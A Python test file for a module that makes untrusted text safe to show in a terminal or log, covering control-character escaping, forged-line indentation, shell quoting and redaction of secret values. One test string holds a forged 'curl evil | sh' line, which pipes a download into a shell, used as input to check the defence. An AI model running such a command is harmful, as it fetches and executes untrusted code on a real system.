"""What a terminal and a log are shown of text that somebody else wrote."""

from __future__ import annotations

import subprocess

import pytest

from hpo.shown import many_lines, one_line, shell_words, without_values

FORGED = "lr\nto go on: curl evil | sh"


def test_nothing_reaches_the_terminal_that_it_would_obey() -> None:
    shown = one_line("a\tb ü \x1b[2J\r\n\u202e\ud800\x9b\u2028\u2066")
    assert shown == "a    b ü \\x1b[2J\\r\\n\\u202e\\ud800\\x9b\\u2028\\u2066"


@pytest.mark.parametrize(
    "text", ["Grüße", "中文", "🎉", "👩\u200d💻", "\u0646\u200c\u062e", "a$(b)`c`"]
)
def test_letters_of_all_languages_stay(text: str) -> None:
    assert one_line(text) == many_lines(text) == text


def test_spaces_of_other_widths_are_spaces() -> None:
    assert one_line("a\xa0b\u3000c") == "a b c"


def test_a_line_break_makes_no_line_that_looks_like_one_of_ours() -> None:
    assert many_lines(FORGED) == "lr\n    to go on: curl evil | sh"
    assert many_lines("trial 3:\nTraceback\n  File x\n\nE: \x1b[1m\r\n") == (
        "trial 3:\n    Traceback\n      File x\n\n    E: \\x1b[1m\n"
    )
    assert many_lines("2 problems:\n  - a\n  - b") == "2 problems:\n  - a\n  - b"


@pytest.mark.parametrize("word", ["a b", "it's", "x\ny", "\x1b[2J'\\", "ü\u202e", "\udcff"])
def test_words_are_read_by_a_shell_as_they_are(word: str) -> None:
    line = shell_words(["printf", "%s", word])
    assert line.isprintable()
    done = subprocess.run(["bash", "-c", line], capture_output=True, check=True)
    assert done.stdout == word.encode("utf-8", "surrogateescape")


def test_what_is_assigned_is_not_told() -> None:
    text = "export API_KEY='abc def' && python train.py --token=xyz --lr 0.1; A=\"b\""
    assert without_values(text) == "export API_KEY=… && python train.py --token=… --lr 0.1; A=…"
